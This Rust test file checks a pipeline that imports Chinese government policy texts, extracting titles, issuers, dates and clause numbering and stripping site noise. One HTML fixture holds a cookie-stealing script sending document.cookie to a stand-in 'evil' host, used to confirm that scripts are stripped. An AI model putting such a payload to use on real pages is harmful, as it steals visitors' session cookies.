//! End-to-end tests of the single-document pipeline on small texts.

use super::*;
use crate::model::UnitKind;

fn import(raw: &str) -> Document {
    import_document(raw, "sample.txt", &IdentityConverter).expect("imports")
}

#[test]
fn bad_inputs_give_clear_errors() {
    assert_eq!(
        import_document("  \n\t", "a.txt", &IdentityConverter),
        Err(ImportError::Empty)
    );
    assert!(matches!(
        import_document("hello world, no Chinese here", "a.txt", &IdentityConverter),
        Err(ImportError::NotChinese { .. })
    ));
    assert!(matches!(
        decode(&[0x89, b'P', b'N', b'G', 0, 0, 1, 2]),
        Err(ImportError::Binary { .. })
    ));
    assert!(matches!(
        decode(&[0xff, 0xb8, 0x28, 0x29]),
        Err(ImportError::UnknownEncoding { offset: 0 })
    ));
    let huge = vec![b'a'; MAX_IMPORT_BYTES + 1];
    assert!(matches!(decode(&huge), Err(ImportError::TooLarge { .. })));
}

#[test]
fn text_without_numbering_is_one_preamble_unit() {
    let doc = import("这是一段没有编号的文字，用于说明情况。\n第二段继续说明。");
    assert_eq!(doc.units.len(), 1);
    assert_eq!(doc.units[0].path.as_str(), "0");
    assert_eq!(doc.units[0].kind, UnitKind::Preamble);
    assert!(doc.units[0].text.contains("第二段"));
    assert_eq!(doc.date, None);
    assert_eq!(doc.doc_number, None);
}

#[test]
fn small_document_with_title_date_and_numbering() {
    let raw = "要 闻\n\n中共中央 国务院\n关于建立更加有效的区域协调发展新机制的意见\n(2018年11月18日)\n\
        实施区域协调发展战略是新时代国家重大战略之一,现提出如下意见.\n一、总体要求\n(一)指导思想.以习近平新时代中国特色社会主义思想为指导.\n\
        (二)基本原则\n--坚持市场主导与政府引导相结合.充分发挥市场作用.\n二、建立区域战略统筹机制\n(四)推动国家重大区域战略融合发展.推动京津冀协同发展,川渝合作.\n\
        用户登录\n立即注册\n";
    let doc = import(raw);
    assert_eq!(doc.title, "关于建立更加有效的区域协调发展新机制的意见");
    assert_eq!(doc.issuers, vec!["中共中央", "国务院"]);
    assert_eq!(doc.date.as_deref(), Some("2018-11-18"));
    assert_eq!(doc.doc_type.as_deref(), Some("意见"));
    assert_eq!(doc.jurisdiction.as_deref(), Some("cn"));
    let paths: Vec<&str> = doc.units.iter().map(|u| u.path.as_str()).collect();
    assert_eq!(paths, vec!["0", "1", "1.1", "1.2", "1.2.d1", "2", "2.4"]);
    let u = doc.unit("2.4").unwrap();
    assert_eq!(u.label, "（四）");
    assert_eq!(u.heading.as_deref(), Some("推动国家重大区域战略融合发展"));
    let region_ids: Vec<&str> = u.regions.iter().map(|r| r.id.as_str()).collect();
    assert_eq!(region_ids, vec!["jing-jin-ji", "sichuan", "chongqing"]);
    let rules: Vec<&str> = doc.removals.iter().map(|r| r.rule.as_str()).collect();
    assert_eq!(
        rules,
        vec!["newspaper-header", "login-prompt", "login-prompt"]
    );
    assert!(doc.units.iter().all(|u| !u.text.contains("登录")));
}

#[test]
fn a_signature_date_after_the_last_clause_dates_the_document() {
    let doc = import("关于加强区域合作的实施意见\n一、总体要求\n（一）指导思想。加强合作。\n某省人民政府\n2019年3月5日\n");
    assert_eq!(doc.date.as_deref(), Some("2019-03-05"));
    let doc = import("关于加强区域合作的实施意见\n一、总体要求\n（一）到2020年3月5日完成。\n");
    assert_eq!(
        doc.date, None,
        "a date inside a clause's own sentence is not a signature"
    );
}

#[test]
fn covering_notice_is_unit_zero_and_attached_preamble_is_zero_one() {
    let raw = "国家发展改革委关于印发促进区域协调发展的指导意见的通知\n发改地区[2016]1771号\n各省、自治区、直辖市人民政府:\n\
        《关于促进区域协调发展的指导意见》已经国务院同意,现印发你们,请认真贯彻执行。\n国家发展改革委\n2016年8月16日\n\
        关于促进区域协调发展的指导意见\n党中央、国务院高度重视促进区域协调发展工作。\n一、总体要求\n(一)指导思想。全面贯彻。";
    let doc = import(raw);
    assert_eq!(doc.title, "关于促进区域协调发展的指导意见");
    assert_eq!(doc.doc_type.as_deref(), Some("指导意见"));
    assert_eq!(doc.doc_number.as_deref(), Some("发改地区〔2016〕1771号"));
    assert_eq!(doc.date.as_deref(), Some("2016-08-16"));
    assert_eq!(doc.issuers, vec!["国家发展改革委"]);
    assert_eq!(doc.level, Some(Level::Ministry));
    assert!(doc.unit("0").unwrap().text.contains("现印发你们"));
    assert!(doc.unit("0.1").unwrap().text.starts_with("党中央"));
    assert_eq!(
        doc.unit("0").unwrap().heading.as_deref(),
        Some("国家发展改革委关于印发促进区域协调发展的指导意见的通知")
    );
}

#[test]
fn an_html_page_imports_as_its_text_with_nothing_executed() {
    let page = "<!DOCTYPE html><html><head><title>政府网</title><script>alert(1)</script></head>\
        <body><div class=nav>首页 | 政策 | 新闻</div>\
        <h1>中共四川省委 四川省人民政府关于加强区域合作的实施意见</h1>\
        <p>各市（州）党委和人民政府：</p><p>一、总体要求</p>\
        <p>（一）指导思想。以&ldquo;一干多支&rdquo;为引领，推动川渝合作。</p>\
        <script>document.location='http://evil/?'+document.cookie</script></body></html>";
    let doc = import(page);
    assert_eq!(doc.title, "关于加强区域合作的实施意见");
    assert_eq!(doc.issuers, vec!["中共四川省委", "四川省人民政府"]);
    assert_eq!(doc.jurisdiction.as_deref(), Some("sichuan"));
    let paths: Vec<&str> = doc.units.iter().map(|u| u.path.as_str()).collect();
    assert_eq!(paths, vec!["0", "1", "1.1"]);
    assert!(doc.units[2].text.contains("“一干多支”"));
    let all: String = doc.units.iter().map(|u| u.text.as_str()).collect();
    for noise in ["alert", "script", "document", "<", "首页", "&ldquo;"] {
        assert!(!all.contains(noise), "{noise} left in the text");
    }
    let rules: Vec<&str> = doc.removals.iter().map(|r| r.rule.as_str()).collect();
    assert_eq!(rules, vec!["html-non-text", "site-menu", "html-non-text"]);
}

#[test]
fn an_html_page_with_little_text_is_judged_by_its_text() {
    let markup = format!(
        "<html><body>{}<p>区域协调发展</p></body></html>",
        "<div class=\"x\"></div>".repeat(200)
    );
    assert!(validate_text(&markup).is_ok());
    assert!(matches!(
        validate_text("<html><body><p>only English here</p></body></html>"),
        Err(ImportError::NotChinese { .. })
    ));
}

#[test]
fn metadata_is_only_what_the_text_states() {
    // A news lead names the title and issuers but no date or number: none
    // are invented, the newspaper's issue date is not the document's.
    let doc = import(
        "四川日报 2018年11月20日\n本网讯 日前，省委、省政府印发《关于推动区域协同发展的指导意见》，主要内容如下。\n\
         一、总体要求\n（一）指导思想。坚持协同发展。",
    );
    assert_eq!(doc.title, "关于推动区域协同发展的指导意见");
    assert_eq!(doc.issuers, vec!["省委", "省政府"]);
    assert_eq!(doc.level, Some(Level::Provincial));
    assert_eq!(doc.jurisdiction, None);
    assert_eq!(doc.date, None);
    assert_eq!(doc.doc_number, None);
    let title_source = doc
        .metadata_sources
        .iter()
        .find(|s| s.field == "title")
        .unwrap();
    assert_eq!(title_source.line, Some(2));
    assert!(title_source.evidence.contains("主要内容如下"));
}

#[test]
fn a_title_broken_over_two_lines_is_one_title() {
    let doc = import(
        "发布时间：2024-11-01 21:09:52 来源：sp20241101\n国务院关于推动内蒙古高质量发展\n奋力书写中国式现代化新篇章的意见\n\
         国发〔2023〕16号\n各省、自治区、直辖市人民政府：\n现提出如下意见。\n一、总体要求\n（一）指导思想\n以习近平新时代中国特色社会主义思想为指导。",
    );
    assert_eq!(
        doc.title,
        "关于推动内蒙古高质量发展奋力书写中国式现代化新篇章的意见"
    );
    assert_eq!(doc.issuers, vec!["国务院"]);
    assert_eq!(doc.doc_number.as_deref(), Some("国发〔2023〕16号"));
    assert_eq!(
        doc.date, None,
        "the posting time is not the document's date"
    );
    assert!(doc.unit("0").unwrap().text.starts_with("各省"));
    assert_eq!(doc.removals[0].rule, "source-date-clicks");
}

#[test]
fn xinhua_header_caption_and_spam_do_not_reach_the_text() {
    let doc = import(
        "新华社记者 李学仁 摄中共中央办公厅 国务院办公厅关于加强区域合作的意见\n来源：新华网\n责任编辑：王五\n2018-11-29 10:23:45\n\
         新华社北京11月29日电 为推动区域合作，现提出如下意见。\n一、总体要求\n1.坚持协同。推进区域合作。\n2.坚持共享。\n\
         本文来源于网络，如有侵权请联系删除\n",
    );
    assert_eq!(doc.title, "关于加强区域合作的意见");
    assert_eq!(doc.issuers, vec!["中共中央办公厅", "国务院办公厅"]);
    assert_eq!(doc.date, None);
    let paths: Vec<&str> = doc.units.iter().map(|u| u.path.as_str()).collect();
    assert_eq!(paths, vec!["0", "1", "1.1", "1.2"]);
    assert_eq!(doc.units[0].text, "为推动区域合作，现提出如下意见。");
    let all: String = doc.units.iter().map(|u| u.text.as_str()).collect();
    for noise in ["摄", "新华网", "王五", "10:23", "新华社", "侵权"] {
        assert!(!all.contains(noise), "{noise} left in the text");
    }
    let mut rules: Vec<&str> = doc.removals.iter().map(|r| r.rule.as_str()).collect();
    rules.sort_unstable();
    rules.dedup();
    assert_eq!(
        rules,
        vec![
            "news-dateline",
            "news-header",
            "photo-caption",
            "repost-spam"
        ]
    );
}

mod properties {
    //! Property tests: whatever text comes in, the parsers do not panic and
    //! the structure invariants hold.

    use super::*;
    use crate::model::UnitPath;
    use proptest::prelude::*;
    use std::collections::HashSet;

    /// Fragments policy texts are made of, including the awkward ones:
    /// labels of every level, ASCII and full-width punctuation, spaces,
    /// noise, brackets that do not close, Latin and digits.
    fn fragment() -> impl Strategy<Value = String> {
        prop_oneof![
            Just("一、".to_string()),
            Just("十二、".to_string()),
            Just("（三）".to_string()),
            Just("(二十一)".to_string()),
            Just("1.".to_string()),
            Just("12、".to_string()),
            Just("——".to_string()),
            Just("\n".to_string()),
            Just(" ".to_string()),
            Just("。".to_string()),
            Just(",".to_string()),
            Just("(".to_string()),
            Just(")".to_string()),
            Just("\"".to_string()),
            Just("发改地区[2016]1771号".to_string()),
            Just("2018年11月18日".to_string()),
            Just("关于建立区域协调发展新机制的意见".to_string()),
            Just("来源:未知 日期:2016-10-19 点击:次".to_string()),
            Just("(di)".to_string()),
            Just("用户登录".to_string()),
            Just("第一章".to_string()),
            Just("第二节".to_string()),
            Just("（1）".to_string()),
            Just("①".to_string()),
            Just("目录".to_string()),
            Just("《".to_string()),
            Just("》".to_string()),
            Just("省委、省政府印发".to_string()),
            Just("，主要内容如下。".to_string()),
            Just("记者 张三 摄".to_string()),
            Just("编前语".to_string()),
            Just("本网讯".to_string()),
            Just("来源：新华网".to_string()),
            Just("2018-11-29 10:23:45".to_string()),
            Just("浙政发(2009)69号".to_string()),
            Just("(bào)".to_string()),
            Just("□*×".to_string()),
            Just("<p>".to_string()),
            Just("<script>".to_string()),
            Just("</".to_string()),
            Just("&nbsp;".to_string()),
            Just("&#x".to_string()),
            "[\u{4e00}-\u{4e80}]{1,12}",
            "[a-zA-Z0-9 .-]{0,6}",
        ]
    }

    fn document() -> impl Strategy<Value = String> {
        prop::collection::vec(fragment(), 0..60).prop_map(|v| v.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(300))]

        #[test]
        fn import_never_panics_and_paths_are_unique_and_valid(raw in document()) {
            if let Ok(doc) = import_document(&raw, "prop.txt", &IdentityConverter) {
                prop_assert!(!doc.units.is_empty());
                let mut seen = HashSet::new();
                for u in &doc.units {
                    prop_assert!(UnitPath::parse(u.path.as_str()).is_some(), "bad path {}", u.path);
                    prop_assert!(seen.insert(u.path.clone()), "duplicate path {}", u.path);
                    prop_assert!(u.provenance.lines.0 <= u.provenance.lines.1);
                    if let Some(h) = &u.heading {
                        prop_assert!(!h.is_empty());
                    }
                }
            }
        }

        #[test]
        fn html_reading_never_panics_and_leaves_no_markup(raw in document()) {
            let page = format!("<html><body>{raw}</body></html>");
            let t = html::html_to_text(&page);
            prop_assert!(!t.text.contains("<script"));
            prop_assert!(!t.text.contains("<p>"));
            // A whole script element after closed markup never reaches the text.
            let page = format!("<html><body><p>{raw}</p><!-- --><script>var secret = 1;</script></body></html>");
            let t = html::html_to_text(&page);
            if page.matches('"').count() % 2 == 0 && page.matches('\'').count() % 2 == 0 {
                prop_assert!(!t.text.contains("secret"), "{:?}", t.text);
            }
        }

        #[test]
        fn canonical_punctuation_is_idempotent(raw in document()) {
            let once = punctuation::canonicalize_punctuation(&raw);
            prop_assert_eq!(punctuation::canonicalize_punctuation(&once), once);
        }

        #[test]
        fn space_removal_is_idempotent_and_only_removes_whitespace(raw in document()) {
            let once = spacing::remove_cjk_spaces(&raw).text;
            prop_assert_eq!(&spacing::remove_cjk_spaces(&once).text, &once);
            let strip = |s: &str| s.chars().filter(|c| !c.is_whitespace()).collect::<String>();
            prop_assert_eq!(strip(&once), strip(&raw));
        }

        #[test]
        fn labels_are_prefixes_of_their_paragraph(raw in document()) {
            for line in raw.lines() {
                if let Some(label) = numbering::leading_label(line) {
                    prop_assert!(line.is_char_boundary(label.len));
                    prop_assert!(label.len <= line.len());
                }
            }
        }

        #[test]
        fn layout_repairs_never_invent_text(raw in document()) {
            let lines: Vec<noise::SourceLine> = raw
                .lines()
                .enumerate()
                .map(|(i, t)| noise::SourceLine { no: i + 1, text: t.to_string() })
                .collect();
            let paras = layout::split_paragraphs(&lines);
            let before: usize = paras.iter().map(|p| p.text.chars().count()).sum();
            let (paras, _) = layout::collapse_repeated(paras, "p");
            let (paras, _) = layout::splice_sidebars(paras, "p");
            let joined = layout::join_column_breaks(paras);
            let after: usize = joined.iter().map(|p| p.text.chars().count()).sum();
            prop_assert!(after <= before);
            for p in &joined {
                prop_assert!(p.lines.0 >= 1 && p.lines.0 <= p.lines.1);
            }
        }
    }
}

#[test]
fn an_import_in_slices_gives_the_same_document() {
    let raw = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../corpus/raw/001_ca91016dd0c6a5e5.txt"
    ))
    .expect("committed raw file");
    let whole = import_document(&raw, "001.txt", &IdentityConverter).expect("imports");
    for budget in [1, 7, 100] {
        let mut job = ImportJob::new(&raw, "001.txt").expect("valid");
        let mut steps = 0;
        let mut last = job.progress();
        let doc = loop {
            steps += 1;
            if let Some(doc) = job.step(&IdentityConverter, budget) {
                break doc;
            }
            let now = job.progress();
            let key = |p: ImportProgress| (p.stage as u8, p.done);
            assert!(key(now) > key(last), "progress moves forward");
            last = now;
        };
        assert_eq!(doc, whole, "budget {budget}");
        assert!(steps > 1);
        assert_eq!(
            job.step(&IdentityConverter, budget),
            None,
            "a finished job stays finished"
        );
    }
}
